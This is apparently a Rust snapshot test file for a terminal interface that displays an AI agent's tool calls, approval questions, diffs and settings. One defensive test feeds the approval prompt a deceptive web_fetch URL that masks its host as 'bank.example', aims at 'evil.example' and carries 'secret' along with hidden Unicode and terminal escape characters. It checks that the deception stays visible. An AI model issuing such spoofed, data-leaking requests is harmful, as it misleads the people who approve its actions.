//! Recorded screens of what an agent does and asks.

use moltis_proto::v1::{self, Strand, event::Kind as Fact};

use super::tests::{NARROW, TINY, USUAL, WIDE, recorded, rows, shows, styles};
use crate::app::fixture::{Chat, call_of, words};
use crate::app::{Cmd, Reply};

const SIZES: [(u16, u16); 4] = [WIDE, USUAL, NARROW, TINY];

/// Three calls of one answer: one is done, one runs and prints, one waits to be made.
fn working(width: u16, height: u16) -> Chat {
    let mut chat = Chat::open(width, height);
    chat.person("Do the tests pass?");
    chat.answers(vec![
        words("I look."),
        call_of("a", "grep", r#"{"pattern":"fn main","path":"src"}"#),
        call_of("b", "exec", r#"{"command":"cargo test --workspace","timeout":600}"#),
        call_of("c", "read", r#"{"file_path":"Cargo.toml"}"#),
    ]);
    chat.begins("b", "exec", r#"{"command":"cargo test --workspace","timeout":600}"#);
    chat.begins("a", "grep", r#"{"pattern":"fn main","path":"src"}"#);
    let found = "src/main.rs:7\nsrc/bin/a.rs:1\nsrc/bin/b.rs:1\nsrc/bin/c.rs:1\nsrc/bin/d.rs:1";
    chat.finishes("a", "grep", "done", found);
    let printed: String = (1..=9).map(|n| format!("test number_{n} ... ok\n")).collect();
    chat.prints("b", 0, &printed).after(42_000);
    chat
}

#[test]
fn calls_of_one_answer_stand_in_its_order_with_what_they_print() {
    shows("working", &SIZES, working);
    let mut chat = working(80, 24);
    chat.press("C-o");
    recorded("working-unfolded-80x24", &rows(&chat));
}

#[test]
fn every_ending_of_a_call_has_its_sign() {
    let scene = |width, height| {
        let mut chat = Chat::open(width, height);
        chat.person("go");
        let endings = ["done", "failed", "denied", "cancelled", "interrupted"];
        let call = |ending: &str| call_of(ending, "exec", r#"{"command":"make"}"#);
        let mut parts: Vec<v1::Part> = endings.iter().map(|ending| call(ending)).collect();
        parts.push(call("left"));
        chat.answers(parts);
        for ending in endings {
            chat.finishes(ending, "exec", ending, "one\ntwo\nthree\nfour");
        }
        chat.ends(v1::Ending::Cancelled);
        chat
    };
    shows("endings", &[WIDE, NARROW], scene);
    recorded("endings-styles", &styles(&scene(100, 50)));
}

#[test]
fn a_change_of_a_file_is_shown_as_what_goes_and_comes() {
    let scene = |width, height| {
        let mut chat = Chat::open(width, height);
        chat.person("Rename it.");
        let edit = r#"{"file_path":"src/main.rs","old_string":"fn main() {\n    run();\n}","new_string":"fn main() {\n    run_all();\n    done();\n}"}"#;
        let content: String = (1..=12).map(|n| format!("line {n}\\n")).collect();
        let write = format!(r#"{{"file_path":"notes.md","content":"{content}"}}"#);
        chat.answers(vec![call_of("a", "edit", edit), call_of("b", "write", &write)]);
        chat.begins("a", "edit", edit).finishes("a", "edit", "done", "edited src/main.rs");
        chat.begins("b", "write", &write).finishes("b", "write", "done", "");
        chat.fact(Fact::WorkspaceChanged(v1::WorkspaceChanged {
            files: vec![
                v1::FileChange { path: "src/main.rs".into(), kind: "modified".into() },
                v1::FileChange { path: "notes.md".into(), kind: "created".into() },
            ],
            ..v1::WorkspaceChanged::default()
        }));
        chat.ends(v1::Ending::Done);
        chat
    };
    shows("edits", &[USUAL, NARROW], scene);
    recorded("edits-styles", &styles(&scene(100, 40)));
}

#[test]
fn arguments_show_as_they_arrive() {
    let mut chat = Chat::open(80, 24);
    chat.person("go");
    chat.streams(Strand::Arguments, 0, r#"{"from":"bank","#);
    recorded("preparing-80x24", &rows(&chat));
}

fn asked(width: u16, height: u16) -> Chat {
    let mut chat = Chat::open(width, height);
    chat.person("Publish it.");
    chat.answers(vec![words("I push."), call_of("a", "exec", r#"{"command":"git push"}"#)]);
    chat.asks("a", "exec", "git push --force origin main", r#","timeout":60"#);
    chat
}

#[test]
fn a_question_stands_above_the_composer_and_does_not_take_its_keys() {
    shows("asked", &SIZES, asked);
}

#[test]
fn a_question_that_has_the_keys_says_what_they_do() {
    shows("asked-focused", &SIZES, |width, height| {
        let mut chat = asked(width, height);
        chat.press("C-x a");
        chat
    });
}

#[test]
fn nothing_of_what_is_asked_is_hidden_and_the_source_is_told() {
    let scene = |width, height| {
        let mut chat = asked(width, height);
        chat.fact(Fact::ToolFinished(v1::ToolFinished {
            call: "z".into(),
            tool: "web_fetch".into(),
            ending: "done".into(),
            ..v1::ToolFinished::default()
        }));
        let session = chat.model.session.as_mut().unwrap();
        session.taint = v1::Origin::Web.into();
        session.settings = Some(v1::Settings {
            workspace: "/home/me/site".into(),
            network: "open".into(),
            ..v1::Settings::default()
        });
        let url = "https://bank.example@evil.example/?q=\u{202e}secret\u{1b}[2J\u{200b}";
        chat.asks("b", "web_fetch", url, r#","note":"first\nsecond","empty":"""#);
        chat.press("C-x a").len();
        chat.press("Right");
        chat
    };
    shows("asked-tainted", &[WIDE, USUAL, NARROW], scene);
    recorded("asked-styles", &styles(&scene(80, 30)));
}

#[test]
fn a_question_that_is_put_off_is_one_row() {
    shows("asked-later", &[USUAL, NARROW, TINY], |width, height| {
        let mut chat = asked(width, height);
        chat.press("C-x a");
        chat.press("Esc");
        chat
    });
}

#[test]
fn a_denial_is_given_its_reason_in_the_card() {
    shows("asked-why", &[USUAL, NARROW, TINY], |width, height| {
        let mut chat = asked(width, height);
        chat.press("C-x a").len();
        chat.press("r");
        chat.types("not to main");
        chat
    });
}

#[test]
fn the_questions_of_all_sessions_are_listed() {
    shows("approvals", &[USUAL, NARROW], |width, height| {
        let mut chat = asked(width, height);
        let mut entries = chat.model.pending().to_vec();
        let elsewhere = v1::Approval {
            id: "q-z".into(),
            session: "s2".into(),
            tool: "write".into(),
            subject: "src/a/path/that/is/longer/than/any/narrow/list/has/room/for.rs".into(),
            ..v1::Approval::default()
        };
        entries.push(elsewhere);
        chat.send("/approvals");
        chat.reply(Reply::Approvals(Ok(entries)));
        chat
    });
}

const DIFF: &str = "diff --git a/src/main.rs b/src/main.rs\n--- a/src/main.rs\n+++ \
    b/src/main.rs\n@@ -1,3 +1,3 @@\n fn main() {\n-    run();\n+    run_all(); // a line that is \
    longer than a narrow screen\n }\n";

#[test]
fn what_a_turn_changed_is_shown_as_a_diff() {
    let scene = |width, height| {
        let mut chat = Chat::open(width, height);
        assert!(matches!(chat.send("/diff").as_slice(), [.., Cmd::Diff { .. }]));
        let diff = v1::DiffResponse { text: DIFF.into(), ..v1::DiffResponse::default() };
        chat.reply(Reply::Diff { session: "s1".into(), result: Ok(diff) });
        chat
    };
    shows("diff", &[USUAL, NARROW, TINY], scene);
    recorded("diff-styles", &styles(&scene(80, 24)));
}

#[test]
fn what_is_not_as_configured_stands_in_the_status_line() {
    let mut chat = Chat::open(100, 12);
    let settings = v1::Settings {
        approvals: "auto".into(),
        network: "open".into(),
        ..v1::Settings::default()
    };
    chat.fact(Fact::SettingsChanged(v1::SettingsChanged { settings: Some(settings) }));
    recorded("mode-100x12", &rows(&chat));
}
